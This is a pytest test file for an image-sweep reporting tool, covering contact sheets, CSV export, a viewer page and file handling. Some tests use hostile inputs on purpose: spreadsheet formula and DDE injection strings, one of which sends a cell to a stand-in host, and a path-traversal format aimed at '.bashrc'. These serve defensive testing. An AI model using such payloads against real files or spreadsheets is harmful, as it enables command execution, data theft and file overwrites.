"""The files that show a sweep: tables, contact sheets, CSV, the page's data, and the request of the best."""

import csv
import errno
import io
import json
import re
from pathlib import Path

import anyio
import pytest
from PIL import ImageFont
from swept import PROMPTS, color_of, make_sweep, save_images

from flux2_client.async_client import AsyncImage
from flux2_client.models import SweepResult, SweepStatus
from flux2_client.report import open_report
from flux2_client.sweeps import labelled_sheet
from flux2_client.sweeps.best import best_request, read_pick
from flux2_client.sweeps.folder import holds_sweep, name_files, read_sweep, write_outputs, write_record
from flux2_client.sweeps.grid import arrange
from flux2_client.sweeps.labelled_sheet import draw_sheets
from flux2_client.sweeps.sweep_csv import sweep_csv
from flux2_client.sweeps.sweep_following import follow_sweep
from flux2_client.sweeps.sweep_submission import default_folder
from flux2_client.sweeps.viewer_page import describe_sweep
from shared.errors import ApiError, OutputRefused, SweepFolderRefused


def numbers(sweep, block):
    return [[None if cell is None else sweep.cells.index(cell) + 1 for cell in row] for row in block.cells]


def test_checkpoints_make_rows_multipliers_columns_and_the_rest_tables():
    sweep = make_sweep(checkpoints=("250", "500"), seeds=(7, 8))

    blocks = list(arrange(sweep))

    assert [block.title for block in blocks] == [
        f"seed {seed}, prompt {number}: {text}" for seed in (7, 8) for number, text in enumerate(PROMPTS, start=1)
    ]
    assert {(block.rows, block.columns) for block in blocks} == {(("250", "500"), ("multiplier 0.6", "multiplier 1"))}
    # Each adapter has 4 images: two prompts, with two seeds each.
    assert numbers(sweep, blocks[0]) == [[1, 5], [9, 13]]
    assert numbers(sweep, blocks[3]) == [[4, 8], [12, 16]]


def test_the_base_model_stands_in_the_column_of_each_multiplier():
    sweep = make_sweep()

    first, second = arrange(sweep)

    assert numbers(sweep, first) == [[1, 3], [5, 5]]
    assert numbers(sweep, second) == [[2, 4], [6, 6]]


def test_seeds_that_only_follow_the_prompts_are_no_axis():
    sweep = make_sweep(checkpoints=("500",), multipliers=(1.0,))

    [block] = arrange(sweep)

    assert {cell.seed for cell in sweep.cells} == {42, 43}
    assert sweep.varying() == ["prompt"]
    assert (block.title, block.rows, len(block.columns)) == ("", ("",), 2)


def test_a_sweep_of_one_image_is_a_table_without_labels():
    [block] = arrange(make_sweep(checkpoints=("500",), multipliers=(1.0,), prompts=["a"]))

    assert (block.title, block.rows, block.columns, len(block.cells[0])) == ("", ("",), ("",), 1)


def test_files_are_named_by_their_number_and_by_what_differs():
    sweep = make_sweep(checkpoints=("run/../500", "base"), seeds=(7, 8), steps=(20, 25))

    names = name_files(sweep.cells)

    assert names[0] == "00001-run_.._500-x0.6-prompt1-20steps-seed7"
    assert names[-1] == f"{len(names):05d}-base-prompt2-25steps-seed8"
    assert names == sorted(set(names))
    assert not any("/" in name for name in names)


def test_each_picture_of_a_sheet_stands_in_its_row_and_column_under_its_labels(tmp_path):
    sweep = save_images(make_sweep(), tmp_path)

    [sheet] = draw_sheets(sweep, tmp_path)

    # Two tables with a line of a title, one of column labels and two rows; pictures keep their 64 pixels.
    side, gap, label, line = 192, 8, 200, 24
    assert sheet.size == (label + 2 * (side + gap) + gap, 2 * ((line + gap) + line + 2 * (side + gap)) + gap)
    left, top = gap + label + 32, gap + line + gap + line + 32
    below, table = side + gap, (line + gap) + line + 2 * (side + gap)
    found = [
        sheet.getpixel((left + column * below, top + row * below + number * table))
        for number in (0, 1)
        for row in (0, 1)
        for column in (0, 1)
    ]
    assert found == [color_of(number) for number in (1, 3, 5, 5, 2, 4, 6, 6)]
    # Something is written in each place of a label, and nothing between pictures.
    for box in [
        (gap, gap, 400, gap + line),
        (gap, top - 32, label, top - 32 + line),
        (left, top - 32 - line, left + 99, top - 32),
    ]:
        assert sheet.crop(box).convert("L").getextrema()[0] < 100
    assert sheet.crop((left + side - 32, top, left + side - 32 + gap, top + 99)).getextrema() == ((255, 255),) * 3


def test_an_image_that_failed_is_a_gray_field_with_its_reason(tmp_path):
    sweep = save_images(make_sweep(failed=[1]), tmp_path)

    [sheet] = draw_sheets(sweep, tmp_path)

    field = sheet.crop((208, 64, 208 + 192, 64 + 192))
    assert field.getpixel((190, 190)) == (211, 211, 211)
    assert field.convert("L").getextrema()[0] < 150


def test_a_large_sweep_has_several_sheets_that_repeat_what_they_show(tmp_path, monkeypatch):
    monkeypatch.setattr(labelled_sheet, "MAX_SIDE_PX", 450)
    sweep = save_images(
        make_sweep(checkpoints=[str(step) for step in range(6)], multipliers=(0.5, 0.75, 1.0)), tmp_path
    )

    sheets = list(draw_sheets(sweep, tmp_path))

    # One column and one row fit: 2 prompts of 6 checkpoints at 3 multipliers.
    assert len(sheets) == 2 * 6 * 3
    assert all(max(sheet.size) <= 450 for sheet in sheets)
    assert {sheet.getpixel((220, 80)) for sheet in sheets} == {color_of(number) for number in range(1, 37)}


def test_the_table_has_a_row_for_each_image_with_its_values_and_its_file(tmp_path):
    sweep = save_images(make_sweep(failed=[6]), tmp_path)

    rows = list(csv.DictReader(io.StringIO(sweep_csv(sweep))))

    assert len(rows) == 6
    first, last = rows[0], rows[-1]
    assert (first["number"], first["checkpoint"], first["multiplier"], first["prompt"]) == (
        "1",
        "500",
        "0.6",
        PROMPTS[0],
    )
    assert (first["seed"], first["size"], first["steps"], first["denoise_s"]) == ("42", "64x64", "4", "1.5")
    assert (tmp_path / first["file"]).is_file()
    assert (last["checkpoint"], last["multiplier"], last["prompt"], last["file"]) == ("base", "", PROMPTS[1], "")
    assert (last["status"], last["error"]) == ("failed", "it <broke>")


def test_no_cell_of_the_table_begins_as_a_formula():
    hostile = '=HYPERLINK("http://a.example/"&A1)'
    sweep = make_sweep(checkpoints=(hostile,), multipliers=(-0.5,), prompts=["-1+cmd|' /C calc'!A0"])

    [row] = csv.DictReader(io.StringIO(sweep_csv(sweep)))

    assert (row["checkpoint"], row["prompt"]) == (f"'{hostile}", "'-1+cmd|' /C calc'!A0")
    # A number is not a formula, even a negative one.
    assert row["multiplier"] == "-0.5"


def test_the_page_holds_every_image_and_nothing_of_a_prompt_becomes_markup(tmp_path):
    sweep = save_images(make_sweep(failed=[6]), tmp_path)

    files = write_outputs(sweep, tmp_path)

    assert [file.name for file in files] == ["index.html", "contact-sheet.png", "sweep.csv", "sweep.json"]
    page = files[0].read_text()
    assert page.count("data:image/webp;base64,") == 5
    assert "<b>" not in page
    assert "\u202e" not in page
    assert not re.search(r"https?:", page)
    [data] = re.findall(r'<script type="application/json" id="sweep">(.*?)</script>', page)
    assert json.loads(data)["axes"][-1]["labels"] == [f"prompt 1: {PROMPTS[0]}", "prompt 2: a house\\u202e in the rain"]
    assert json.loads(data)["cells"][5]["problem"] == "failed: it <broke>"
    assert read_sweep(tmp_path) == sweep


def test_an_image_that_was_rendered_but_not_saved_is_shown_as_such(tmp_path):
    sweep = make_sweep(checkpoints=("500",), multipliers=(1.0,), prompts=["a"])

    [shown] = describe_sweep(sweep, tmp_path)["cells"]

    assert (sweep.cells[0].status, shown["problem"]) == ("succeeded", "not saved")


def test_pictures_of_a_page_shrink_as_they_become_many(tmp_path, monkeypatch):
    sweep = save_images(make_sweep(prompts=["a"], sizes=("800x400",)), tmp_path)
    monkeypatch.setattr("flux2_client.sweeps.viewer_page._PAGE_PIXELS", 3 * 300 * 300)

    shown = describe_sweep(sweep, tmp_path)

    assert {(cell["width"], cell["height"]) for cell in shown["cells"]} == {(300, 150)}


def test_an_image_that_was_removed_is_named(tmp_path):
    sweep = save_images(make_sweep(), tmp_path)
    removed = tmp_path / sweep.cells[3].file
    removed.unlink()

    with pytest.raises(OutputRefused, match=re.escape(str(removed))):
        write_outputs(sweep, tmp_path)


class HostileClient:
    """Answers with a sweep whose images have a format that leads elsewhere; records where they are saved."""

    format = "/../../../.bashrc"

    def __init__(self):
        self.saved = []

    async def sweep_result(self, sweep_id):
        body = make_sweep(checkpoints=("..", "base")).model_dump()
        for cell in body["cells"]:
            cell["image"]["format"] = self.format
        result = SweepResult[AsyncImage].model_validate({**body, "sweep_id": sweep_id})
        for image in result.images:
            image.bind(self, request_id=sweep_id)
        return result

    async def wait_sweep(self, sweep_id, *, on_status):
        return SweepStatus(
            sweep_id=sweep_id,
            status="succeeded",
            model="flux2",
            images=6,
            counts={"succeeded": 6},
            progress=1,
            created_at="2026-01-01T00:00:00Z",
            jobs=(),
        )

    async def save(self, image, path):
        self.saved.append(path)


class StoppedClient(HostileClient):
    """Answers with a sweep, and stops waiting for it."""

    format = "png"

    async def wait_sweep(self, sweep_id, *, on_status):
        raise ApiError("stopped")


def test_no_answer_leads_out_of_the_folder(tmp_path):
    client = HostileClient()

    async def follow():
        with open_report(as_json=True) as report:
            return await follow_sweep(client, "a", tmp_path / "out", parallel=1, report=report)

    anyio.run(follow)

    assert client.saved
    assert {path.resolve().parent for path in client.saved} == {tmp_path / "out" / "images"}
    for sweep_id in ("/../../x", "../../..", "..\\..\\", ""):
        assert re.fullmatch(r"sweep-\w+", str(default_folder(sweep_id)))


def test_a_folder_keeps_to_one_sweep(tmp_path):
    sweep = save_images(make_sweep(), tmp_path)
    assert not holds_sweep(tmp_path, "another")
    write_outputs(sweep, tmp_path)

    assert holds_sweep(tmp_path, sweep.sweep_id)
    with pytest.raises(OutputRefused, match="holds the sweep 0123456789abcdef; choose another --output"):
        holds_sweep(tmp_path, "another")


def test_a_record_that_cannot_be_written_leaves_the_one_before(tmp_path, monkeypatch):
    sweep = make_sweep()
    write_record(sweep, tmp_path)

    def fill_the_disk(path, data):
        with path.open("wb") as file:
            file.write(data[:100])
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(Path, "write_bytes", fill_the_disk)
    with pytest.raises(OutputRefused, match="No space left"):
        write_record(sweep.model_copy(update={"status": "failed"}), tmp_path)

    assert read_sweep(tmp_path) == sweep


def test_a_watch_that_is_stopped_leaves_what_the_folder_says_of_its_files(tmp_path):
    client = StoppedClient()
    sweep = save_images(make_sweep(), tmp_path)
    write_record(sweep, tmp_path)

    async def follow():
        with open_report(as_json=True) as report:
            return await follow_sweep(client, sweep.sweep_id, tmp_path, parallel=1, report=report)

    with pytest.raises(ApiError, match="stopped"):
        anyio.run(follow)

    assert read_sweep(tmp_path) == sweep


def test_the_best_becomes_a_request_with_the_prompts_and_seeds_of_the_sweep(tmp_path):
    sweep = save_images(make_sweep(seeds=(7, 8)), tmp_path)

    request = best_request(sweep, tmp_path, read_pick("500:0.6", sweep, tmp_path))

    assert request["model"] == "flux2"
    assert request["loras"] == [{"path": "run/a_500.safetensors", "network_multiplier": 0.6, "sha256": "cd" * 32}]
    assert [(prompt["prompt"], prompt["seed"]) for prompt in request["prompts"]] == [
        (text, seed) for text in PROMPTS for seed in (7, 8)
    ]


def test_what_the_page_downloads_decides_steps_size_and_guidance_too(tmp_path):
    sweep = save_images(make_sweep(steps=(4, 8), sizes=("64x64", "96x64")), tmp_path)
    chosen = next(cell for cell in sweep.cells if (cell.multiplier, cell.steps, cell.size) == (1.0, 8, "96x64"))
    # As JavaScript writes a number.
    values = json.loads(json.dumps(chosen.model_dump(mode="json")).replace("1.0,", "1,"))
    (tmp_path / "best.json").write_text(json.dumps({"sweep_id": sweep.sweep_id, "best": values, "ratings": {}}))

    request = best_request(sweep, tmp_path, read_pick(None, sweep, tmp_path))

    assert request["loras"][0]["network_multiplier"] == 1.0
    assert [(prompt["sample_steps"], prompt["width"], prompt["height"]) for prompt in request["prompts"]] == [
        (8, 96, 64)
    ] * 2


def test_new_prompts_take_the_settings_of_the_best_and_seeds_of_their_own(tmp_path):
    sweep = save_images(make_sweep(), tmp_path)

    request = best_request(
        sweep, tmp_path, read_pick("base", sweep, tmp_path), prompts=[{"prompt": "new"}], seeds=[1, 2]
    )

    assert request["loras"] == []
    common = {"width": 64, "height": 64, "sample_steps": 4, "guidance_scale": 4.0, "prompt": "new"}
    assert request["prompts"] == [common | {"seed": 1}, common | {"seed": 2}]


@pytest.mark.parametrize(
    ("pick", "message"),
    [
        ("750:0.6", "its checkpoints are: 500, base"),
        ("500", r"several multipliers; give one, e\.g\. --pick 500:0\.6"),
        ("500:0.7", "neither a file nor CHECKPOINT:MULTIPLIER"),
        (None, r"holds no best\.json: .* or give --pick 500:0\.6"),
    ],
)
def test_a_pick_that_the_sweep_does_not_have_is_refused_with_advice(pick, message, tmp_path):
    sweep = save_images(make_sweep(), tmp_path)

    with pytest.raises(SweepFolderRefused, match=message):
        read_pick(pick, sweep, tmp_path)


def test_a_pick_of_another_sweep_is_refused(tmp_path):
    sweep = save_images(make_sweep(), tmp_path)
    values = sweep.cells[0].model_dump(mode="json")
    (tmp_path / "best.json").write_text(json.dumps({"sweep_id": "other", "best": values}))

    with pytest.raises(SweepFolderRefused, match="picks an image of the sweep other"):
        read_pick(None, sweep, tmp_path)


def test_a_pick_whose_images_failed_gives_no_request(tmp_path):
    sweep = save_images(make_sweep(failed=[1, 2]), tmp_path)

    with pytest.raises(SweepFolderRefused, match=r"no image .* checkpoint 500, multiplier 0\.6"):
        best_request(sweep, tmp_path, read_pick("500:0.6", sweep, tmp_path))


@pytest.mark.parametrize("text", ["", "{}", '{"sweep_id": "a"}'])
def test_a_folder_without_a_sweep_is_refused_with_advice(text, tmp_path):
    if text:
        (tmp_path / "sweep.json").write_text(text)

    with pytest.raises(SweepFolderRefused, match="flux2 sweep"):
        read_sweep(tmp_path)


def test_labels_of_long_prompts_are_measured_by_their_beginnings(tmp_path, monkeypatch):
    measured = []
    measure = ImageFont.FreeTypeFont.getlength

    def count(font, text, *arguments, **options):
        measured.append(len(text))
        return measure(font, text, *arguments, **options)

    monkeypatch.setattr(ImageFont.FreeTypeFont, "getlength", count)
    sweep = save_images(
        make_sweep(multipliers=(1.0,), checkpoints=("a",), prompts=["word " * 600, "b" * 3000]), tmp_path
    )

    [_] = draw_sheets(sweep, tmp_path)

    # One line of each label, of 192 pixels.
    assert max(measured) <= 192
    assert len(measured) < 100


def test_a_sheet_shows_long_labels_and_prompts_cut_to_their_places(tmp_path):
    long = "a_very_long_name_of_a_checkpoint_" * 6
    sweep = save_images(make_sweep(checkpoints=(long, "b"), prompts=["word " * 400, "b"]), tmp_path)

    [sheet] = draw_sheets(sweep, tmp_path)

    # The labels end before the pictures. The titles have three lines and one, with a gap below them.
    top = 8 + 3 * 24 + 8 + 24
    assert sheet.crop((200, top, 208, top + 192)).convert("L").getextrema() == (255, 255)
    assert sheet.crop((8, top, 200, top + 192)).convert("L").getextrema()[0] < 100
    assert sheet.height == (top + 2 * 200) + (24 + 8 + 24 + 2 * 200)
